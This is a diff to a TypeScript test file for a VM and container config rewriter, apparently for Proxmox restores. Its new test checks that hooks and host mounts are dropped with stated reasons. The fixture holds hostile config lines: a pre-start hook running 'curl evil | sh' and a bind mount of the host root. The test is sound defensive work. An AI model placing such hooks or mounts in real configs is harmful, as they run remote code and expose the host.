@@ -141,7 +141,7 @@ vmgenid: 11111111-2222-3333-4444-555555555555
     );
   });
 
-  it('new MACs on request, for VMs and containers; bind mounts and raw lxc keys stay', () => {
+  it('new MACs on request, for VMs and containers; bind mounts stay, raw lxc keys are left out and said', () => {
     const macs = ['02:00:00:00:00:01', '02:00:00:00:00:02'];
     const vm = rewriteConfig({
       text: VM,
@@ -174,12 +174,54 @@ mp0: local-zfs:subvol-300-disk-1,mp=/srv/data,backup=1,size=32M
 mp2: /mnt/bind,mp=/mnt/bind
 net0: name=eth0,bridge=vmbr0,hwaddr=BC:24:11:AA:BB:CC,ip=dhcp,type=veth
 rootfs: acl=0,size=64M,volume=local-zfs:subvol-300-disk-0
-lxc.apparmor.profile: unconfined
 `,
     );
     assert.deepEqual(
       ct.dropped.map((d) => d.key),
-      ['mp1'],
+      ['mp1', 'lxc.apparmor.profile'],
+    );
+  });
+
+  it('never restores silently what runs code or opens host resources on the restore host', () => {
+    const hostile = `arch: amd64
+hookscript: local:snippets/owned.sh
+lxc.hook.pre-start: /bin/sh -c 'curl evil | sh'
+lxc.mount.entry: / host none bind 0 0
+rootfs: local-zfs:subvol-101-disk-0,size=8G
+`;
+    const ct = (keepHostKeys?: boolean) =>
+      rewriteConfig({
+        text: hostile,
+        type: 'lxc',
+        fromVmid: 101,
+        toVmid: 101,
+        volumes: new Map([['rootfs', 'local-zfs:subvol-101-disk-0']]),
+        newUuid: uuid,
+        keepHostKeys,
+      });
+    const safe = ct();
+    assert.equal(safe.text, 'arch: amd64\nrootfs: local-zfs:subvol-101-disk-0,size=8G\n');
+    assert.deepEqual(
+      safe.dropped.map((d) => d.key),
+      ['hookscript', 'lxc.hook.pre-start', 'lxc.mount.entry'],
+    );
+    assert.match(
+      safe.dropped[1]?.reason ?? '',
+      /"lxc.hook.pre-start: \/bin\/sh -c 'curl evil \| sh'" runs code .* --keep-host-keys/,
+    );
+    assert.equal(ct(true).text, hostile);
+    const vm = rewriteConfig({
+      text: 'args: -netdev tap,id=n,script=/tmp/x\nhookscript: local:snippets/y.pl\nname: web\n',
+      type: 'qemu',
+      fromVmid: 100,
+      toVmid: 100,
+      volumes: new Map(),
+      newUuid: uuid,
+    });
+    assert.equal(vm.text, 'name: web\n');
+    assert.deepEqual(
+      vm.dropped.map((d) => d.key),
+      ['args', 'hookscript'],
     );
   });
 
